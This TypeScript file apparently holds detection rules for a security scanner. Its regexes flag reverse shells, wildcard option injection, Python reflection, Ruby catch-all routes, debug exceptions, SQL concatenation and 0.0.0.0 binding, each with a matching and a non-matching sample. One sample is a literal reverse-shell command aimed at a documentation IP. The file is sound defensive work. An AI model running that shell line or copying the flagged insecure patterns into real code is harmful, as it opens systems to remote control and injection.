import type { EditRow } from '../../../edit-row.ts';

/** Lines that say by themselves what they do, in languages of scripts and in what they start. */
export const placedEdits: readonly EditRow[] = [
  {
    // A shell that somebody far away types into.
    code: 'command-injection',
    came: /\bdup2\(\s*\w+\.fileno\(\)|\bpty\.spawn\(\s*['"](\/bin\/)?(ba|z|da)?sh|\/dev\/(tcp|udp)\/|\b(nc|ncat|netcat)\s+(-\w+\s+)*-[ec]\s|\bfsockopen\(.*\b(exec|shell_exec|proc_open|system)\(|\bTCPSocket\.(new|open)\(.*\b(exec|popen|system)\b|\bmkfifo\s+\S+\s*;.*\b(nc|openssl)\b|\bnet\.(connect|Socket)\(.*\bspawn\(/,
    file: 'a.py',
    hit: 'def f(s):\n    os.dup2(s.fileno(), 0)\n',
    miss: 'def f(s):\n    os.dup(s.fileno())\n',
  },
  {
    code: 'command-injection',
    languages: ['shell', 'makefile', 'dockerfile', 'yaml'],
    came: /\/dev\/(tcp|udp)\/\S+\/\S+|\b(nc|ncat|netcat)\s+(-\w+\s+)*-[ec]\s*\S*\/?(ba)?sh|\bsocat\b.*\bexec:/i,
    file: 'a.sh',
    hit: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n',
    miss: 'bash -i >& /dev/tty1 0>&1\n',
  },
  {
    // Names of files that begin with a dash become options.
    code: 'command-injection',
    languages: ['python', 'ruby', 'php'],
    came: /\b(system|popen\w*|getoutput|shell_exec|exec|passthru)\(?\s*f?['"][^'"]*\b(tar|chown|chmod|rsync)\s[^'"]*(?<=\s)\*|\b(Popen|run|call|check_call|check_output)\(\s*f?['"][^'"]*\b(tar|chown|chmod|rsync)\s[^'"]*(?<=\s)\*.*shell\s*=\s*True/,
    file: 'a.py',
    hit: 'import os\nos.system("chown web *")\n',
    miss: 'import os\nos.system("chown web a*b")\n',
  },
  {
    code: 'reflection',
    languages: ['python'],
    came: /\b__(globals|builtins|subclasses|mro|dict)__(\(\))?\[\s*(?!['"\d-])\w|\b__(globals|builtins)__\.get\(\s*(?!['"])\w/,
    unless: /\b(cls|self|type\(self\))\.__dict__\[(name|key|attr)\]|\bsys\.modules\b/,
    file: 'a.py',
    hit: 'def f(name):\n    return show.__globals__[name]\n',
    miss: "def f(name):\n    return show.__globals__['a']\n",
  },
  {
    // Everything that a controller can do has an address.
    code: 'reflection',
    languages: ['ruby'],
    came: /\b(match|get|post|map\.connect|connect)\b.*['"][^'"]*:controller[^'"]*:action/,
    file: 'a.rb',
    hit: "match '/:controller(/:action(/:id))'\n",
    miss: "match '/pages(/:action)'\n",
  },
  {
    code: 'debug-mode',
    languages: ['ruby'],
    came: /^\s*true\s*$|\bdef show_detailed_exceptions\?\s*(=|;)\s*true/,
    near: /def show_detailed_exceptions\?/,
    file: 'a.rb',
    hit: 'def show_detailed_exceptions?\n  true\nend\n',
    miss: 'def show_detailed_exceptions?\n  false\nend\n',
  },
  {
    // A statement that grows by a value.
    code: 'sql-injection',
    languages: ['ruby'],
    came: /["'](SELECT\s[^"']*\sFROM|INSERT\s+INTO|UPDATE\s[^"']*\sSET|DELETE\s+FROM)\s[^"']*["']\s*(\.concat\(|<<)\s*[a-z_@]/i,
    file: 'a.rb',
    hit: 'def f(name)\n  run("SELECT a FROM b WHERE c=".concat(name))\nend\n',
    miss: 'def f(name)\n  run("SELECT a FROM b WHERE c=".concat("1"))\nend\n',
  },
  {
    code: 'all-addresses',
    languages: ['python', 'ruby', 'php'],
    came: /\.bind\(\s*\(\s*(['"](0\.0\.0\.0|::|)['"])\s*,|\b(run|serve|run_simple|run_app|make_server|TCPServer\.new|TCPServer|HTTPServer|WSGIServer|listen|start|set\s+:bind,)\(?\s*(.*\b(host|address|bind)\s*[=:]\s*)?\(?\s*['"](0\.0\.0\.0|::)['"]/,
    file: 'a.py',
    hit: "app.run(host='0.0.0.0', port=80)\n",
    miss: "app.run(host='127.0.0.1', port=80)\n",
  },
];
